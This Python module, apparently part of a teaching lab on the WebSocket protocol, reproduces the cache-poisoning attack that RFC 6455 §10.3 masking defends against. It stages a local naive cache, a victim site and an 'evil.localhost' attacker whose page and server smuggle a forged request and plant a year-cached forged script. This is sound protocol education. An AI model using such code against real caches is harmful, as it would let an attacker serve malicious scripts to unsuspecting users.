"""RFC 6455 §10.3: why a client masks. Who chooses the bytes on the wire poisons a cache.

They follow the steps of "Talking to Yourself for Fun and Profit" (Huang, Chen, Barth, Rescorla and
Jackson, 2010). The cast: a site with a script, an attacker with a page and a server, a cache on the
way to both, and a victim who comes through the same cache later.
"""

from __future__ import annotations

import secrets
import socket
from collections.abc import Iterator

from ...protocol.frame import BINARY, Side, encode_frame
from ...protocol.http import Request
from ...protocol.masking import mask
from .browser import opening, read_answer, request
from .cast import Cast
from .naive_cache import NaiveCache
from .site import open_websocket, site
from .story import Crossed, Lab, Step

SCRIPT = "document.title = 'genuine';\n"
FORGED = "document.title = 'forged';\n"
VICTIMS_PAGE = "<!doctype html><title>no script</title><script src=/script.js></script>\n"

ATTACKERS_PAGE = """<!doctype html><title>connecting</title><script>
const socket = new WebSocket(`ws://${{location.host}}/`);
socket.onopen = () => {{ socket.send(new TextEncoder().encode({payload!r})); }};
socket.onclose = () => {{ document.title = "over"; }};
</script>
"""

PREDICTED_KEY = bytes.fromhex("37fa213d")
"""What the attacker expects as the masking key, with the switch at "predictable"."""

CACHED_FOR_A_YEAR = "Cache-Control: public, max-age=31536000\r\n"


def play(cast: Cast) -> Iterator[Step]:
    """The handshake, the frame, the forged answer, and what the victim gets."""
    scene = Scene(cast)
    with cast.client(scene.attackers_port) as page, page.makefile("rb") as answers:
        asked = opening(scene.attackers_host, f"http://{scene.attackers_host}")
        page.sendall(asked)
        response = read_answer(answers)
        yield Step(
            "upgrade",
            response.startswith(b"HTTP/1.1 101 "),
            (
                Crossed("page to cache", asked, Side.CLIENT),
                Crossed("cache to page", response, Side.SERVER),
            ),
        )

        frame = frame_with(scene.forged_request, cast.defence)
        page.sendall(frame)
        reply = read_answer(answers)
        reached = scene.forged_request in frame
        yield Step(
            "frame",
            reached is not cast.defended and scene.cache.has_read(frame),
            (Crossed("page to cache", frame, Side.CLIENT), Crossed("what the cache reads", frame)),
            {"site": scene.sites_host},
        )
        yield Step(
            "forged answer",
            (scene.script_address in scene.cache.stored) is not cast.defended,
            (Crossed("server to cache", reply),),
            {"stored": ", ".join(scene.cache.stored) or "nothing"},
        )

    with cast.client(scene.sites_port) as victim, victim.makefile("rb") as answers:
        victim.sendall(scene.forged_request)
        script = read_answer(answers)
        yield Step(
            "victim",
            script.endswith((SCRIPT if cast.defended else FORGED).encode()),
            (
                Crossed("victim to cache", scene.forged_request),
                Crossed("cache to victim", script),
            ),
            {"page": f"http://{scene.sites_host}/"},
        )


LAB = Lab("poison", "§10.3", 10, play, ("on", "off", "predictable"))


class Scene:
    """The servers, and a cache in front of both: `attackers_port` and `sites_port` are its ports.

    A name that ends with .localhost means this machine, so that a browser can come, too.
    """

    def __init__(self, cast: Cast) -> None:
        self.cache = NaiveCache()
        site_port = cast.host(site({"/": VICTIMS_PAGE, "/script.js": SCRIPT}))
        self.sites_port = cast.host(self.cache.towards(lambda: cast.opened(site_port)))
        self.sites_host = f"good.localhost:{self.sites_port}"
        self.script_address = f"http://{self.sites_host}/script.js"
        self.forged_request = request(self.sites_host, "/script.js")
        page = ATTACKERS_PAGE.format(payload=payload_of(self.forged_request).decode())
        attacker_port = cast.host(site({"/": page}, upgraded=attackers_server))
        self.attackers_port = cast.host(self.cache.towards(lambda: cast.opened(attacker_port)))
        self.attackers_host = f"evil.localhost:{self.attackers_port}"


def payload_of(forged: bytes) -> bytes:
    """What the attacker's page sends. The line end before it makes a line of its own of the frame's
    header, and the cache drops lines that it does not understand.
    """
    return b"\r\n" + forged


def frame_with(forged: bytes, defence: str) -> bytes:
    """The frame as the browser sends it, with the payload that the attacker's script has chosen.

    If the script knows the key, it masks the payload before the browser does, and the two undo each
    other.
    """
    payload = payload_of(forged)
    if defence == "predictable":
        return encode_frame(BINARY, mask(payload, PREDICTED_KEY), masking_key=PREDICTED_KEY)
    key = secrets.token_bytes(4) if defence == "on" else None
    return encode_frame(BINARY, payload, masking_key=key)


def attackers_server(sock: socket.socket, asked: Request) -> None:
    """It opens the WebSocket as the RFC says, and answers each read with a forged script."""
    open_websocket(sock, asked)
    while sock.recv(65_536):
        sock.sendall(
            f"HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\n{CACHED_FOR_A_YEAR}"
            f"Content-Length: {len(FORGED)}\r\n\r\n{FORGED}".encode()
        )
